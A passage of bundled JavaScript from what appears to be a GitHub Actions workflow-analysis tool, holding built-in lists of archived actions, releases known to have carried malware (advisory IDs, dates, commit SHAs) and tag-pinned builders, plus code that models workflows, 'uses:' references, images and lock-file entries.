lakehell\"},{\"repository\":\"liskin/gh-pipx\"},{\"repository\":\"lucas-c/pre-commit-hooks-bandit\"},{\"repository\":\"machine-learning-apps/wandb-action\"},{\"repository\":\"mansagroup/gcs-cache-action\"},{\"repository\":\"mapbox/secret-shield\"},{\"repository\":\"marcogorelli/absolufy-imports\"},{\"repository\":\"marvinpinto/action-automatic-releases\"},{\"repository\":\"marvinpinto/actions\"},{\"repository\":\"maxheld83/ghpages\"},{\"repository\":\"meilcli/danger-action\"},{\"repository\":\"meilcli/gradle-update-check-action\"},{\"repository\":\"meilcli/npm-update-check-action\"},{\"repository\":\"meilcli/nuget-update-check-action\"},{\"repository\":\"micnncim/action-lgtm-reaction\"},{\"repository\":\"mikepenz/gradle-dependency-submission\"},{\"repository\":\"niklasmerz/github-deployment-action\"},{\"repository\":\"nix-community/nixpkgs-fmt\"},{\"repository\":\"onedr0p/sops-pre-commit\"},{\"repository\":\"orf/cargo-bloat-action\"},{\"repository\":\"owenlamont/uv-secure\"},{\"repository\":\"paambaati/codeclimate-action\"},{\"repository\":\"philips-software/docker-ci-scripts\"},{\"repository\":\"pre-commit/mirrors-autopep8\"},{\"repository\":\"pre-commit/mirrors-isort\"},{\"repository\":\"pre-commit/mirrors-prettier\"},{\"repository\":\"primer/figma-action\"},{\"repository\":\"pycqa/pydocstyle\"},{\"repository\":\"rapidsai/frigate\"},{\"repository\":\"reasonsoftware/action-pylint\"},{\"repository\":\"repo-sync/pull-request\"},{\"repository\":\"repo-sync/repo-sync\"},{\"repository\":\"sagebind/docker-swarm-deploy-action\"},{\"repository\":\"scottbrenner/generate-changelog-action\"},{\"repository\":\"seandstewart/typical\"},{\"repository\":\"secrethub/actions\"},{\"repository\":\"segmentio/golines\"},{\"repository\":\"semgrep/semgrep-action\"},{\"repository\":\"shaunlwm/action-release-debugapk\"},{\"repository\":\"snok/pep585-upgrade\"},{\"repository\":\"soichisumi/issue-copy-action\"},{\"repository\":\"sonarsource/sonarcloud-github-action\"},{\"repository\":\"sphinx-quant/sphinx-quant\"},{\"repository\":\"stefafafan/psi-action\"},{\"repository\":\"stefanprodan/kube-tools\"},{\"repository\":\"suzuki-shunsuke/github-action-format\"},{\"repository\":\"suzuki-shunsuke/github-action-tflint\"},{\"repository\":\"suzuki-shunsuke/github-action-tfsec\"},{\"repository\":\"suzuki-shunsuke/required-status-check-action\"},{\"repository\":\"suzuki-shunsuke/trivy-config-action\"},{\"repository\":\"suzuki-shunsuke/validate-pr-review-action\"},{\"repository\":\"svenstaro/upx-action\"},{\"repository\":\"swiftdocorg/github-wiki-publish-action\"},{\"repository\":\"tachiyomiorg/issue-moderator-action\"},{\"repository\":\"technote-space/auto-cancel-redundant-workflow\"},{\"repository\":\"technote-space/get-diff-action\"},{\"repository\":\"tenable/terrascan\"},{\"repository\":\"tencentcloudbase/cloudbase-action\"},{\"repository\":\"terrencepreilly/darglint\"},{\"repository\":\"thegeeklab/ansible-later\"},{\"repository\":\"tibdex/github-app-token\"},{\"repository\":\"trmcnvn/chrome-addon\"},{\"repository\":\"verygoodopensource/very_good_coverage\"},{\"repository\":\"whelk-io/maven-settings-xml-action\"},{\"repository\":\"yeslayla/build-godot-action\"},{\"repository\":\"youyo/aws-cdk-github-actions\"},{\"repository\":\"yumemi-inc/clean-cache-action\"},{\"repository\":\"z0al/dependent-issues\"}]"),
    "compromised-actions": () => JSON.parse("[{\"repository\":\"tj-actions/changed-files\",\"advisory\":\"GHSA-mrrh-fwg8-r2c3\",\"from\":\"2025-03-14\",\"to\":\"2025-03-15\",\"moved\":\"through\",\"through\":\"45.0.7\",\"commits\":[\"0e58ed8671d6b60d0890c21b07f8835ace038e67\"],\"fixedIn\":\"46.0.1\"},{\"repository\":\"reviewdog/action-setup\",\"advisory\":\"GHSA-qmg3-hpqr-gqvc\",\"from\":\"2025-03-11\",\"to\":\"2025-03-11\",\"moved\":\"tags\",\"tags\":[\"v1\"],\"commits\":[\"f0d342d24037bb11d26b9bd8496e0808ba32e9ec\"]},{\"repository\":\"aquasecurity/trivy-action\",\"advisory\":\"GHSA-69fq-xp46-6x23\",\"from\":\"2026-03-19\",\"to\":\"2026-03-20\",\"moved\":\"through\",\"through\":\"0.34\",\"commits\":[\"19851bef764b57ff95b35e66589f31949eeb229d\",\"ddb9da4475c1cef7d5389062bdfdfbdbd1394648\"],\"fixedIn\":\"0.35.0\"},{\"repository\":\"aquasecurity/setup-trivy\",\"advisory\":\"GHSA-69fq-xp46-6x23\",\"from\":\"2026-03-19\",\"to\":\"2026-03-20\",\"moved\":\"through\",\"through\":\"0.2.5\",\"commits\":[\"e6c2c5e321ed9123bda567646e2f96565e34abe1\"],\"fixedIn\":\"0.2.6\"},{\"repository\":\"checkmarx/kics-github-action\",\"advisory\":\"the incident of 2026-03-23\",\"from\":\"2026-03-23\",\"to\":\"2026-03-23\",\"moved\":\"all\"}]"),
    "must-stay-on-tag": () => JSON.parse("[{\"prefix\":\"slsa-framework/slsa-github-generator/.github/workflows/\"},{\"prefix\":\"slsa-framework/slsa-github-generator/actions/\"}]"),
};

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/knowledge/facts.js

/** Declares a list; its entries are in `data/<name>.json`. */
function defineFacts(list) {
    const { name, fields } = list;
    const defaults = Object.fromEntries(Object.entries(fields).map(([key, field]) => [key, field.default]));
    let entries;
    return {
        ...list,
        builtIn() {
            entries ??= (DATA[name]?.() ?? []).map((entry) => ({ ...defaults, ...entry }));
            return entries;
        },
    };
}
/** A field that every entry has. */
function required(field) {
    return { ...field, isRequired: true };
}
/** The facts that a run goes by. */
class Facts {
    added;
    #lists = new Map();
    #indexes = new Map();
    /** @param added what settings add, by the name of the list */
    constructor(added = new Map()) {
        this.added = added;
    }
    /** All entries of a list, the tool's own first; the same array each time. */
    of(list) {
        const own = list.builtIn();
        const added = this.added.get(list.name);
        if (!added)
            return own;
        let all = this.#lists.get(list);
        if (!all) {
            all = [...own, ...added];
            this.#lists.set(list, all);
        }
        return all;
    }
    /** The entries of a list by the text of one of their fields, in lower case, as names of repositories compare. */
    by(list, field) {
        const name = `${list.name}\0${field}`;
        let index = this.#indexes.get(name);
        if (!index) {
            index = groupBy(this.of(list), (entry) => String(entry[field]).toLowerCase());
            this.#indexes.set(name, index);
        }
        return index;
    }
}
/** `Map.groupBy`, which Node 20 lacks. */
function groupBy(entries, keyOf) {
    const groups = new Map();
    for (const entry of entries) {
        const group = groups.get(keyOf(entry));
        if (group)
            group.push(entry);
        else
            groups.set(keyOf(entry), [entry]);
    }
    return groups;
}
/** What a run goes by whose settings add nothing. */
const BUILT_IN_FACTS = new Facts();


/***/ }),

/***/ 4153:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   A: () => (__WEBPACK_DEFAULT_EXPORT__)
/* harmony export */ });
/* harmony import */ var _config_index_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1713);
/* harmony import */ var _facts_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(7949);


/* harmony default export */ const __WEBPACK_DEFAULT_EXPORT__ = ((0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .defineFacts */ .$v)({
    name: "archived-actions",
    about: "Actions whose repository is archived",
    fields: { repository: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "`owner/repo`")) },
}));


/***/ }),

/***/ 6121:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   A: () => (__WEBPACK_DEFAULT_EXPORT__)
/* harmony export */ });
/* harmony import */ var _config_index_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1713);
/* harmony import */ var _facts_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(7949);


/* harmony default export */ const __WEBPACK_DEFAULT_EXPORT__ = ((0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .defineFacts */ .$v)({
    name: "compromised-actions",
    about: "Releases of actions that carried malware",
    fields: {
        repository: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "`owner/repo`")),
        advisory: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "What tells of it")),
        from: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The first day on which refs led to malware, as an ISO date")),
        to: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The last such day")),
        moved: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .choiceOption */ .zu)(["tags", "through", "all"], "all", "Which tags were moved")),
        tags: (0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textsOption */ .YM)("The tags that were moved, with `moved: tags`"),
        through: (0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The last version that was moved, with `moved: through`"),
        commits: (0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textsOption */ .YM)("Commits that are known to be malware"),
        fixedIn: (0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The first version that was never touched"),
    },
}));


/***/ }),

/***/ 4877:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   A: () => (__WEBPACK_DEFAULT_EXPORT__)
/* harmony export */ });
/* harmony import */ var _config_index_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1713);
/* harmony import */ var _facts_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(7949);


/* harmony default export */ const __WEBPACK_DEFAULT_EXPORT__ = ((0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .defineFacts */ .$v)({
    name: "must-stay-on-tag",
    about: "Builders that have to be called by their version tag",
    fields: { prefix: (0,_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .required */ .mw)((0,_config_index_js__WEBPACK_IMPORTED_MODULE_0__/* .textOption */ .vU)("", "The beginning of `owner/repo/path`")) },
}));


/***/ }),

/***/ 6012:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  $I: () => (/* reexport */ ActionsLock),
  $q: () => (/* reexport */ Dependabot),
  j$: () => (/* reexport */ DockerfileInstruction),
  qG: () => (/* reexport */ PLATFORM_COOLDOWN_DAYS),
  Tz: () => (/* reexport */ Renovate),
  Wu: () => (/* reexport */ Workflow),
  qj: () => (/* reexport */ actionOf),
  _r: () => (/* reexport */ constantText),
  zG: () => (/* reexport */ cooldownDays),
  l$: () => (/* reexport */ expressionsIn),
  Np: () => (/* reexport */ filledTexts),
  WM: () => (/* reexport */ isCommit),
  VO: () => (/* reexport */ isConstant),
  Bc: () => (/* reexport */ isDigest),
  nT: () => (/* reexport */ isOpen),
  JG: () => (/* reexport */ isSwitchedOn),
  a7: () => (/* reexport */ lockRefusal),
  Vb: () => (/* reexport */ nameOf),
  Fd: () => (/* reexport */ normalizePath),
  zZ: () => (/* reexport */ parseImage),
  fM: () => (/* reexport */ pinningOf),
  wY: () => (/* reexport */ wholeExpression)
});

// UNUSED EXPORTS: CompositeAction, DockerAction, EmbeddedExpression, EnvBlock, JavaScriptAction, LockedDependency, LockedWorkflow, Matrix, NormalJob, PERMISSION_SCOPES, Permissions, ReusableJob, RunScript, Runner, Step, Trigger, UnknownAction, Uses, envBlock, inputsOf, parseUses, scalarsOf, stepsOf, systemOf, triggersOf

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/shell/index.js + 29 modules
var shell = __nccwpck_require__(7436);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/expressions/index.js + 13 modules
var expressions = __nccwpck_require__(6481);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/expression.js

/** A `${{ }}` in a scalar, or a bare `if:`. Offsets `start` and `end` are offsets into the scalar's value. */
class EmbeddedExpression {
    scalar;
    start;
    end;
    bodyStart;
    body;
    isTerminated;
    #parsed;
    constructor(scalar, start, end, bodyStart, body, 
    /** Its closing `}}` is there. */
    isTerminated) {
        this.scalar = scalar;
        this.start = start;
        this.end = end;
        this.bodyStart = bodyStart;
        this.body = body;
        this.isTerminated = isTerminated;
    }
    get file() {
        return this.scalar.file;
    }
    /** Undefined when it can't be parsed; the nodes' offsets are offsets into the scalar's value. */
    get expression() {
        this.#parsed ??= (0,expressions/* parseExpression */.YK)(this.body, this.bodyStart);
        return this.#parsed.ok ? this.#parsed.expression : undefined;
    }
    /** The text with its fence. */
    get text() {
        return this.scalar.value.slice(this.start, this.end);
    }
    /** The file's range of a node of this expression, or of the whole. */
    spanOf(node = this) {
        return this.scalar.spanOf(node.start, node.end);
    }
}
const NONE = [];
const cache = new WeakMap();
/** Every `${{ }}` of a scalar. */
function expressionsIn(scalar) {
    if (!scalar.mayContain("${{"))
        return NONE;
    let found = cache.get(scalar);
    if (!found) {
        found = (0,expressions/* findExpressions */.zV)(scalar.value).map((e) => new EmbeddedExpression(scalar, e.start, e.end, e.bodyStart, e.body, e.terminated));
        cache.set(scalar, found);
    }
    return found;
}
/** Is the whole value an expression that is always that? */
function isConstant(node, value) {
    const whole = wholeExpression(node)?.expression;
    if (!whole)
        return false;
    const result = (0,expressions/* evaluate */._3)(whole, expressions/* NOTHING_KNOWN */.GN);
    return result.known && result.value === value;
}
/** Is the whole value one `${{ }}`? Then that. */
function wholeExpression(node) {
    if (node?.kind !== "scalar")
        return undefined;
    const [first] = expressionsIn(node);
    if (!first)
        return undefined;
    const value = node.value;
    return value.slice(0, first.start).trim() === "" && value.slice(first.end).trim() === "" ? first : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/env.js


/** An `env:` block. GitHub also accepts one expression in its place: then `entries` is empty and `dynamic` is that scalar. */
class EnvBlock {
    level;
    entry;
    parent;
    #entries;
    constructor(level, 
    /** The `env` key with its value. */
    entry, 
    /** The step, job, workflow or container that it stands in. */
    parent) {
        this.level = level;
        this.entry = entry;
        this.parent = parent;
    }
    get map() {
        return this.entry.value.kind === "map" ? this.entry.value : undefined;
    }
    get dynamic() {
        const { value } = this.entry;
        return value.kind === "scalar" && value.value.includes("${{") ? value : undefined;
    }
    get entries() {
        this.#entries ??= (this.map?.entries ?? []).map((entry) => ({
            level: this.level,
            name: entry.key.value,
            entry,
            value: entry.value.kind === "scalar" ? entry.value : null,
            block: this,
        }));
        return this.#entries;
    }
    /** Names have no case in the `env` context and on Windows; elsewhere variables have. The exact name wins. */
    get(name) {
        const lower = name.toLowerCase();
        return (this.entries.find((entry) => entry.name === name) ??
            this.entries.find((entry) => entry.name.toLowerCase() === lower));
    }
}
function envBlock(level, map) {
    const entry = map.entry("env");
    return entry ? new EnvBlock(level, entry, map) : null;
}
const TRUE_WORDS = new Set(["1", "true", "$true"]);
/** Is a switch of the runner on? It reads `true`, `1` and `$true`, in any case (actions/runner, `StringUtil.ConvertToBoolean`). */
function isSwitchedOn(node) {
    return TRUE_WORDS.has(constantText(node)?.trim().toLowerCase() ?? "");
}
/** What a value is in every run: its text, or what its one expression gives; undefined where that depends on the run. */
function constantText(node) {
    if (expressionsIn(node).length === 0)
        return node.value;
    const expression = wholeExpression(node)?.expression;
    const result = expression && (0,expressions/* evaluate */._3)(expression, { lookup: () => expressions/* UNKNOWN */.HV });
    return result?.known ? (0,expressions/* toText */.fE)(result.value) : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/image.js
const DIGEST = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[0-9a-f]{32,}$/i;
/**
 * Splits an image reference. A `:` before the last `/` belongs to a registry's port.
 *
 * @see OCI distribution specification 1.1, "Pulling manifests"; distribution/reference grammar
 */
function parseImage(text) {
    const trimmed = text.trim();
    const at = trimmed.indexOf("@");
    const before = at === -1 ? trimmed : trimmed.slice(0, at);
    const digest = at === -1 ? null : trimmed.slice(at + 1);
    const colon = before.indexOf(":", before.lastIndexOf("/") + 1);
    return {
        text: trimmed,
        name: colon === -1 ? before : before.slice(0, colon),
        tag: colon === -1 ? null : before.slice(colon + 1),
        digest: digest !== null && DIGEST.test(digest) ? digest : null,
    };
}
/** Is a text a digest, algorithm and all? */
function isDigest(text) {
    return DIGEST.test(text);
}
function pinningOf(image) {
    // Only a digest can stand behind an `@`.
    if (image.digest !== null || image.text.includes("@${"))
        return "digest";
    if (image.tag === null)
        return isOpen(image) ? "unknown" : "none";
    return image.tag === "latest" ? "latest" : "tag";
}
/** Is a part of the reference not known? */
function isOpen({ text }) {
    return text.includes("${");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/uses.js

const COMMIT = /^[0-9a-f]{40}$/i;
/** A `uses:` of a step or of a job that calls a reusable workflow. */
class Uses {
    scalar;
    #target;
    constructor(scalar) {
        this.scalar = scalar;
    }
    get text() {
        return this.scalar.value;
    }
    get target() {
        this.#target ??= parseUses(this.text);
        return this.#target;
    }
    /** Is it that action? `name` is `owner/repo[/path]` in lower case: owner, repository and path have no case on GitHub. */
    is(name) {
        const target = this.target;
        return target.kind === "repository" && nameOf(target) === name;
    }
}
/** `owner/repo[/path]` in lower case. */
function nameOf(target) {
    const path = target.path === "" ? "" : `/${target.path}`;
    return `${target.owner}/${target.repo}${path}`.toLowerCase();
}
/** A full 40-digit commit SHA: the only ref that can't be moved. */
function isCommit(ref) {
    return COMMIT.test(ref);
}
/**
 * Reads a `uses:` value.
 *
 * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.steps[*].uses` and `jobs.<job_id>.uses`
 */
function parseUses(value) {
    const text = value.trim();
    if (text.includes("${{"))
        return { kind: "dynamic" };
    if (text.startsWith("docker://"))
        return { kind: "docker", image: parseImage(text.slice("docker://".length)) };
    if (text.startsWith("$/"))
        return { kind: "local", base: "repository", path: normalizePath(text.slice(2)) };
    if (text === "." || text.startsWith("./") || text.startsWith("../") || text.startsWith(".\\")) {
        return { kind: "local", base: "workspace", path: normalizePath(text) };
    }
    return parseRepositoryTarget(text, value.indexOf(text));
}
function parseRepositoryTarget(text, base) {
    const at = text.indexOf("@");
    if (at === -1)
        return { kind: "malformed" };
    const [owner, repo, ...path] = text.slice(0, at).split("/");
    const ref = text.slice(at + 1);
    if (!owner || !repo || ref === "")
        return { kind: "malformed" };
    const refSpan = { start: base + at + 1, end: base + text.length };
    return { kind: "repository", owner, repo, path: path.filter((part) => part !== "").join("/"), ref, refSpan };
}
/** Removes `.` and resolves `..` where it can; `\` counts as `/`. */
function normalizePath(path) {
    const parts = [];
    for (const part of path.replaceAll("\\", "/").split("/")) {
        if (part === "" || part === ".")
            continue;
        if (part === ".." && parts.length > 0 && parts.at(-1) !== "..")
            parts.pop();
        else
            parts.push(part);
    }
    return parts.join("/");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/step.js




/** A `run:` with the shell that reads it. */
class RunScript {
    step;
    scalar;
    #script;
    constructor(step, scalar) {
        this.step = step;
        this.scalar = scalar;
    }
    get text() {
        return this.scalar.value;
    }
    get shell() {
        return this.step.shell.value;
    }
    /** Parsed when first asked for. */
    get script() {
        this.#script ??= (0,shell/* parseScript */.tl)(this.text, this.shell, expressionsIn(this.scalar));
        return this.#script;
    }
}
/** One step of a job or of a composite action. */
class Step {
    owner;
    map;
    index;
    uses;
    run;
    env;
    constructor(owner, map, 
    /** Its place among its owner's steps, from 0; steps of a `parallel:` block count one by one. */
    index) {
        this.owner = owner;
        this.map = map;
        this.index = index;
        const uses = map.scalar("uses");
        const run = map.scalar("run");
        this.uses = uses ? new Uses(uses) : null;
        this.run = run ? new RunScript(this, run) : null;
        this.env = envBlock("step", map);
    }
    get file() {
        return this.map.file;
    }
    get id() {
        return this.map.text("id");
    }
    get condition() {
        return this.map.scalar("if");
    }
    /** Inputs of an action, by name in any case. */
    input(name) {
        const wanted = name.toLowerCase();
        return this.with?.entries.find((entry) => entry.key.value.toLowerCase() === wanted);
    }
    get with() {
        return this.map.map("with");
    }
    /** `with:` is one expression, so its inputs can't be known. */
    get hasDynamicInputs() {
        return this.map.scalar("with")?.isNull === false;
    }
    /** The variable as the step sees it: its own `env` before the job's and the workflow's. */
    variable(name) {
        return this.env?.get(name) ?? this.owner.variable(name);
    }
    /**
     * The shell of this step's `run:`.
     *
     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.steps[*].shell` and `defaults.run`
     */
    get shell() {
        const own = this.map.scalar("shell");
        if (own && !own.isNull)
            return { value: (0,shell/* shellOf */.of)(own.value), from: "step", node: own };
        return this.owner.defaultShell;
    }
    get workingDirectory() {
        const own = this.map.scalar("working-directory");
        if (own && !own.isNull)
            return { value: own.value, from: "step", node: own };
        return this.owner.defaultWorkingDirectory;
    }
}
/** The steps of a `steps:` value; those of `parallel:` blocks are among them. */
function stepsOf(owner, node) {
    const steps = [];
    collectSteps(owner, node, steps);
    return steps;
}
function collectSteps(owner, node, steps) {
    if (node?.kind !== "seq")
        return;
    for (const { value } of node.items) {
        if (value.kind !== "map")
            continue;
        steps.push(new Step(owner, value, steps.length));
        collectSteps(owner, value.get("parallel"), steps);
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/trigger.js
/** One event of `on:`. */
class Trigger {
    key;
    node;
    constructor(
    /** The event's name where it stands: a key, an item or the one scalar. */
    key, 
    /** Its settings, when it has any. */
    node) {
        this.key = key;
        this.node = node;
    }
    get event() {
        return this.key.value;
    }
    get settings() {
        return this.node?.kind === "map" ? this.node : undefined;
    }
    /** Activity types; undefined when the event's default ones apply. */
    get types() {
        return this.list("types");
    }
    /** A filter such as `branches`, `branches-ignore`, `tags`, `paths`, `workflows`. */
    list(filter) {
        const node = this.settings?.get(filter);
        return node ? scalarsOf(node) : undefined;
    }
    get inputs() {
        return inputsOf(this.settings?.get("inputs"));
    }
    /** Names of the secrets that a `workflow_call` declares. */
    get secrets() {
        return this.settings?.map("secrets")?.entries ?? [];
    }
    /** `cron` of each entry of a `schedule`. */
    get schedules() {
        if (this.node?.kind !== "seq")
            return [];
        return this.node.items.flatMap(({ value }) => (value.kind === "map" ? (value.scalar("cron") ?? []) : []));
    }
}
/** The events of an `on:` value: a name, a list of names, or a mapping. */
function triggersOf(node) {
    if (!node)
        return [];
    if (node.kind === "scalar")
        return node.isNull ? [] : [new Trigger(node, null)];
    if (node.kind === "map")
        return node.entries.map((entry) => new Trigger(entry.key, entry.value));
    return scalarsOf(node).map((item) => new Trigger(item, null));
}
const INPUT_TYPES = new Set(["string", "boolean", "number", "choice", "environment"]);
function inputsOf(node) {
    if (node?.kind !== "map")
        return [];
    return node.entries.map((entry) => {
        const map = entry.value.kind === "map" ? entry.value : undefined;
        const type = map?.text("type") ?? "string";
        return {
            name: entry.key.value,
            entry,
            type: INPUT_TYPES.has(type) ? type : "string",
            options: scalarsOf(map?.get("options")),
            isRequired: map?.scalar("required")?.typed === true,
            default: map?.scalar("default") ?? null,
        };
    });
}
function scalarsOf(node) {
    if (!node)
        return [];
    if (node.kind === "scalar")
        return node.isNull ? [] : [node];
    if (node.kind === "map")
        return [];
    return node.items.flatMap((item) => (item.value.kind === "scalar" ? [item.value] : []));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/action.js


/**
 * What every `action.yml` has.
 *
 * @see Metadata syntax for GitHub Actions
 */
class BaseAction {
    document;
    root;
    runs;
    constructor(document, root, 
    /** Empty when the file has none. */
    runs) {
        this.document = document;
        this.root = root;
        this.runs = runs;
    }
    get file() {
        return this.document.file;
    }
    get path() {
        return this.file.path;
    }
    /** The folder it stands in, relative to the repository; empty at the root. */
    get folder() {
        const slash = this.path.lastIndexOf("/");
        return slash === -1 ? "" : this.path.slice(0, slash);
    }
    get inputs() {
        return inputsOf(this.root.get("inputs"));
    }
    get outputs() {
        return this.root.map("outputs")?.entries ?? [];
    }
    /** `runs.using`. */
    get using() {
        return this.runs?.scalar("using");
    }
}
/** `using: composite`: steps of its own. */
class CompositeAction extends BaseAction {
    kind = "composite";
    #steps;
    get steps() {
        this.#steps ??= stepsOf(this, this.runs?.get("steps"));
        return this.#steps;
    }
    /** A composite action has no `env:` above its steps; what its caller sets can't be seen here. */
    variable(_name) {
        return undefined;
    }
    /** Each `run:` of a composite action must name its shell; where one doesn't, bash is the likeliest. */
    get defaultShell() {
        return { value: "bash", from: "unknown", node: null };
    }
    get defaultWorkingDirectory() {
        return { value: ".", from: "default", node: null };
    }
}
/** `using: node24` and the like. */
class JavaScriptAction extends BaseAction {
    kind = "javascript";
    /** The files that it runs: `pre`, `main`, `post`. */
    get entryPoints() {
        return ["pre", "main", "post"].flatMap((key) => this.runs?.scalar(key) ?? []);
    }
}
/** `using: docker`. */
class DockerAction extends BaseAction {
    kind = "docker";
    /** `Dockerfile`, a path to one, or `docker://image`. */
    get image() {
        return this.runs?.scalar("image");
    }
}
/** `runs.using` is missing, or something else. */
class UnknownAction extends BaseAction {
    kind = "unknown";
}
function actionOf(document, root) {
    const runs = root.map("runs");
    const using = runs?.text("using")?.toLowerCase() ?? "";
    if (using === "composite")
        return new CompositeAction(document, root, runs);
    if (using === "docker")
        return new DockerAction(document, root, runs);
    if (using.startsWith("node"))
        return new JavaScriptAction(document, root, runs);
    return new UnknownAction(document, root, runs);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/locked-name.js

/** Format v0.0.1 has the commit in its keys; a ref can't hold a colon, so nothing else ends like that. */
const locked_name_DIGEST = /:sha(?:1|256)-[0-9a-f]+$/;
/** The names of a list; none where it is no list. */
function namesOf(node) {
    return node?.kind === "seq" ? node.items.map(({ value }) => nameAt(value)) : [];
}
function nameAt(node) {
    const parsed = node.kind === "scalar" ? parseUses(node.value.replace(locked_name_DIGEST, "")) : null;
    const target = parsed?.kind === "repository" ? parsed : null;
    return { node, target, id: target && idOf(target) };
}
/** By this names are compared: a commit has no case either. */
function idOf(target) {
    const { ref } = target;
    return `${nameOf(target)}@${isCommit(ref) ? ref.toLowerCase() : ref}`;
}
/** By its own name, else by its repository's: GitHub's tool locks whole repositories, so its names have no paths. */
function firstOf(map, target) {
    return map.get(idOf(target)) ?? map.get(idOf({ ...target, path: "" }));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/locked-dependency.js


const locked_dependency_COMMIT = /^sha1-([0-9a-f]{40})$/i;
const NUMBER = /^[1-9]\d*$/;
/** What the lock knows of an action at a ref. Keys that we don't know are in `node`. */
class LockedDependency {
    key;
    node;
    isContradicted;
    name;
    #flaw;
    #uses;
    constructor(key, node, 
    /** Another entry has the same name and another commit. */
    isContradicted) {
        this.key = key;
        this.node = node;
        this.isContradicted = isContradicted;
        this.name = nameAt(key);
    }
    get map() {
        return this.node.kind === "map" ? this.node : undefined;
    }
    /** 40 digits in lower case; null where there is none or it is malformed. */
    get commit() {
        return locked_dependency_COMMIT.exec(this.map?.text("commit") ?? "")?.[1]?.toLowerCase() ?? null;
    }
    /** What the action pulls in. */
    get uses() {
        this.#uses ??= namesOf(this.map?.get("uses"));
        return this.#uses;
    }
    /** Why it can't be relied upon; null where it is as it has to be. */
    get flaw() {
        if (this.#flaw === undefined)
            this.#flaw = this.findFlaw();
        return this.#flaw;
    }
    findFlaw() {
        const { target } = this.name;
        if (!target)
            return { node: this.key, message: "names no action at a ref" };
        if (this.isContradicted)
            return { node: this.key, message: "is there twice, with different commits" };
        return (this.refFlaw(target.ref) ??
            this.commitFlaw(target.ref) ??
            this.numberFlaw("owner_id") ??
            this.numberFlaw("repo_id") ??
            this.usesFlaw());
    }
    refFlaw(named) {
        const ref = this.map?.text("ref");
        // Format v0.0.1 says it in one of two other words.
        if (ref === undefined)
            return this.map?.text("tag") || this.map?.text("branch") ? null : this.without("ref");
        // Behind the name of a commit stands the branch or tag that it was found in.
        return ref === named || isCommit(named)
            ? null
            : this.at("ref", `has the \`ref\` \`${ref}\`, and another in its name`);
    }
    commitFlaw(named) {
        if (this.map?.text("commit") === undefined)
            return this.without("commit");
        if (this.commit === null)
            return this.at("commit", "has a `commit` that is not `sha1-` and 40 hexadecimal digits");
        const isOther = isCommit(named) && named.toLowerCase() !== this.commit;
        return isOther ? this.at("commit", "has another `commit` than its name") : null;
    }
    numberFlaw(field) {
        const text = this.map?.text(field);
        if (text === undefined)
            return this.without(field);
        return NUMBER.test(text) ? null : this.at(field, `has no number as its \`${field}\``);
    }
    usesFlaw() {
        const uses = this.map?.get("uses");
        return isNothing(uses) || uses?.kind === "seq" ? null : this.at("uses", "has a `uses` that is no list");
    }
    without(field) {
        return this.at(field, `has no \`${field}\``);
    }
    at(field, message) {
        return { node: this.nodeOf(field), message };
    }
    /** Where a field stands; the entry's name where it is missing. */
    nodeOf(field) {
        const node = this.map?.get(field);
        return !node || isNothing(node) ? this.key : node;
    }
    /** One of the ids by which GitHub knows a repository, whatever it is called. */
    idOf(field) {
        const text = this.map?.text(field);
        return text !== undefined && NUMBER.test(text) ? Number(text) : null;
    }
}
/** Absent, or null. */
function isNothing(node) {
